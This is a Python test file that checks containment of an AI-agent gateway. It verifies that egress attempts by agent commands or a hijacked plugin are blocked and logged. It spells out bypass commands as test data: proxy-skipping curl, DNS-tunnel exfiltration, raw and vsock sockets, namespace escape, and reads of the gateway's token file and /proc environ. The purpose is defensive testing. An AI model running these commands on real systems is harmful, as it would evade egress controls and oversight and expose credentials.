"""A real gateway in a network namespace: what tries to leave beside the proxy fails and is seen.

Two who try: a plugin that was taken over, which runs things as the gateway itself, and a command of
the agent, which the launcher hands over to the other user. `pytest -s` prints the table that
docs/containment.md quotes.
"""

import json
import os
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from examples.sample.gateway import SampleGateway
from tests.adapters.kernel.conftest import COMMANDS, GATEWAY, needs
from tests.conftest import IN_CI
from tests.e2e.conftest import ROOT, Guard
from tests.e2e.real_server import RealServer

pytestmark = [pytest.mark.slow, pytest.mark.timeout(900)]

BREAKOUT = ROOT / "tests" / "simulators" / "breakout_plugin"
WORKFLOW = """
name = "breakout"
owner = "tests"
purpose = "an agent that runs things"
environment = "dev"
agents = ["sample/support"]
channels = ["telegram", "webchat"]
replies = "allow"
reads = ["breakout"]
writes = ["exec"]

[tools.breakout]
effect = "read"
contents = ["command"]

[[egress]]
hosts = ["news.example"]
ports = [80]
tools = ["exec"]
addresses = ["127.0.0.0/8"]
"""
PYTHON = "python3 -c 'import socket as s; {}'"
UDP = PYTHON.format('u=s.socket(s.AF_INET,s.SOCK_DGRAM); u.sendto(b"{}",("{}",{})); u.send(b"")')
ATTEMPTS = {
    "curl beside the proxy": "curl -sS -m 5 --noproxy '*' http://203.0.113.9/",
    "a child with a cleaned environment": "env -i curl -sS -m 5 http://203.0.113.10/",
    "TCP to another port": PYTHON.format('s.create_connection(("203.0.113.11",22),3)'),
    "TCP over IPv6": PYTHON.format('s.create_connection(("2001:db8::9",443),3)'),
    "UDP": UDP.format("out", "203.0.113.12", 443),
    "a DNS tunnel": "getent ahosts c2VjcmV0.tunnel.example",
    "a DNS tunnel to its own server": UDP.format("x" * 40, "203.0.113.13", 53),
    "a raw socket": PYTHON.format("s.socket(s.AF_INET,s.SOCK_RAW,1)"),
    "a packet socket": PYTHON.format("s.socket(17,3,0)"),
    "a virtual machine's socket": PYTHON.format("s.socket(40,1,0)"),
    "another namespace": "unshare --user --net true",
    "the machine's own loopback": PYTHON.format('s.create_connection(("127.0.0.1",{port}),3)'),
}
SEEN = {
    "curl beside the proxy": "203.0.113.9:80",
    "a child with a cleaned environment": "203.0.113.10:80",
    "TCP to another port": "203.0.113.11:22",
    "TCP over IPv6": "[2001:db8::9]:443",
    "UDP": "203.0.113.12:443",
    "a DNS tunnel": "c2VjcmV0.tunnel.example at 192.0.2.53",
    "a DNS tunnel to its own server": "203.0.113.13",
    "a raw socket": "inet raw icmp",
    "a packet socket": "packet raw 0",
    "a virtual machine's socket": "vsock stream 0",
    "another namespace": "unshare",
}
"""What the gateway's own attempts are recorded as; its loopback is just empty."""
BLOCKED = {
    "curl beside the proxy": "connect 203.0.113.9:80",
    "a child with a cleaned environment": "connect 203.0.113.10:80",
    "TCP to another port": "connect 203.0.113.11:22",
    "TCP over IPv6": "connect [2001:db8::9]:443",
    "UDP": "socket inet-dgram",
    "a DNS tunnel": "socket inet-dgram",
    "a DNS tunnel to its own server": "socket inet-dgram",
    "a raw socket": "socket inet-raw 1",
    "a packet socket": "socket packet-raw",
    "a virtual machine's socket": "socket vsock-stream",
    "another namespace": "unshare",
}
"""What the launcher tells of a command's."""


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RealServer]:
    if reason := needs():
        (pytest.fail if IN_CI else pytest.skip)(reason)
    running = RealServer(tmp_path_factory.mktemp("cb"))
    yield running
    running.stop()


class ContainedGateway(SampleGateway):
    """The sample's gateway as its own user, started by `clawband contain run`."""

    def contain(self, server: RealServer) -> None:
        (server.folder / "clawband.toml").write_text(f'state = "s"\nport = {server.port}\n')
        users = ("--user", str(GATEWAY), "--command-user", str(COMMANDS))
        seen = ("--read", str(self.modules.parent), "--read", str(self.node.parents[1]))
        self.words = (sys.executable, "-m", "clawband", "-C", str(server.folder), "contain")
        self.which = ("--config", str(self.config_path), *users)
        self.wrap = (*self.words, "run", *self.which, *seen, "--")

    def launch(self, timeout: float = 90) -> None:
        for folder, _, files in os.walk(self.layout.root):
            for path in (Path(folder), *(Path(folder) / name for name in files)):
                os.chown(path, GATEWAY, GATEWAY)
        super().launch(timeout)


@pytest.fixture(scope="module")
def gateway(
    server: RealServer, node: Path, modules: Path, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[ContainedGateway]:
    guard = Guard(server.socket, server.credential_file).plugin_config()
    folder = tmp_path_factory.mktemp("gateway")
    gateway = ContainedGateway(
        folder, guard, node=node, modules=modules, proxy=server.proxy, more_plugins=(BREAKOUT,)
    )
    gateway.contain(server)
    gateway.prepare()
    reach = {"url": f"ws://127.0.0.1:{gateway.port}", "token_file": str(gateway.layout.token)}
    (server.folder / "control.json").write_text(json.dumps(reach))
    server.find(gateway.names)
    server.start()
    sample = (ROOT / "examples" / "workflows" / "gateway-sample.toml").read_text()
    published = server.call(
        "POST", "/policy", {"files": {"breakout.toml": WORKFLOW, "gateway.toml": sample}}
    )
    assert "problems" not in published, published
    try:
        yield gateway.start(240)
    finally:
        gateway.stop()


@pytest.fixture
def turn(gateway: ContainedGateway) -> Callable[..., str]:
    """Let the model make one call; what it was told as its result."""

    def made(tool: str, **args: Any) -> str:
        words = f"turn {len(gateway.model.requests)}"
        gateway.model.script(words, {"tool": tool, "args": args}, {"text": "done"})
        assert gateway.complete("support", words, timeout=300) == "done"
        return gateway.told()

    return made


def tried(server: RealServer) -> str:
    """All attempts as one script; each says how it ended, and its name."""
    lines = (
        f'({text.replace("{port}", str(server.port))}) >/dev/null 2>&1; echo "$? {name}"'
        for name, text in ATTEMPTS.items()
    )
    return "\n".join(lines)


def ended(told: str) -> dict[str, str]:
    """Exit status of each attempt by its name."""
    lines = (line.split(" ", 1) for line in told.splitlines() if line[:1].isdigit())
    return {name: status for status, name in lines}


def noticed(
    server: RealServer, tag: str, wanted: dict[str, str]
) -> Callable[[], dict[str, dict[str, Any]]]:
    """By name the event that shows it, once all of them are there."""

    def look() -> dict[str, dict[str, Any]]:
        events = server.events(tag=tag)
        found = {
            name: event
            for name, what in wanted.items()
            for event in events
            if what in (event["resource"], event["detail"].get("attempt"))
        }
        return found if set(found) == set(wanted) else {}

    return look


def table(who: str, rows: dict[str, dict[str, Any]]) -> None:
    print(f"\n| {who} | caught by | seen as |\n|---|---|---|")
    for name, event in rows.items():
        kind = event["detail"].get("kind", "the launcher")
        by = "system call filter" if kind in ("socket", "call") else "firewall"
        by = "the launcher" if kind == "the launcher" else by
        what = event["detail"].get("attempt") or event["resource"]
        print(f"| {name} | {by} | `{event['tag']}` {what} |")


def test_nothing_leaves_from_inside_the_gateway_and_it_is_seen(gateway, server, turn):
    told = turn("breakout", command=tried(server))
    assert set(ended(told)) == set(ATTEMPTS) and "0" not in ended(told).values(), told
    seen = server.until(noticed(server, "egress:bypass", SEEN))
    assert {each["detail"]["who"] for each in seen.values()} == {"gateway"}
    assert {each["gateway"] for each in seen.values()} == {"sample"}
    table("as the gateway", seen)


def test_nothing_leaves_from_a_command_and_it_is_seen(gateway, server, turn):
    told = turn("exec", command=tried(server))
    assert set(ended(told)) == set(ATTEMPTS) and "0" not in ended(told).values(), told
    blocked = {**BLOCKED, "the machine's own loopback": f"connect 127.0.0.1:{server.port}"}
    seen = server.until(noticed(server, "launch:block", blocked))
    assert {each["agent"] for each in seen.values()} == {"sample/support"}
    table("as a command", seen)


def test_a_command_is_somebody_else_without_the_gateways_token(gateway, turn):
    told = turn(
        "exec",
        command=f"id -u; cat {gateway.config_path} {gateway.layout.token};"
        f" ls {gateway.layout.state}; grep -rl gateway /proc/*/environ; touch mine && echo written",
    )
    assert str(COMMANDS) in told and "written" in told
    assert gateway.token not in told and "openclaw.json: No such file" in told
    workspace = gateway.layout.root / "workspaces" / "support"
    assert (workspace / "mine").stat().st_uid == GATEWAY, "to the gateway it is its own"
    own = turn("breakout", command="id -u")
    assert str(GATEWAY) in own


def test_what_is_allowed_goes_through_the_proxy(gateway, server, turn):
    told = turn("exec", command="curl -sS http://news.example/today")
    assert "<html" in told.lower(), told
    opened = server.decisions("net:request", "")[0]
    assert (opened["outcome"], opened["resource"]) == ("permit", "Host::news.example")
    # What the gateway itself runs has no call that explains it, and no credential of one.
    alone = turn("breakout", command=f"curl -sS -x {server.proxy} http://news.example/today")
    assert "<html" not in alone.lower()
    assert server.events(tag="enforcement:missing")


def test_check_finds_it_kept(gateway, turn):
    turn("breakout", command=ATTEMPTS["curl beside the proxy"])
    done = subprocess.run(
        [*gateway.words, "check", *gateway.which, "--json"], capture_output=True, text=True
    )
    told = json.loads(done.stdout)
    failed = {each["id"]: each["found"] for each in told["checks"] if each["outcome"] != "pass"}
    assert (done.returncode, failed) == (0, {})
    assert told["dropped"]["to_tcp"] >= 1
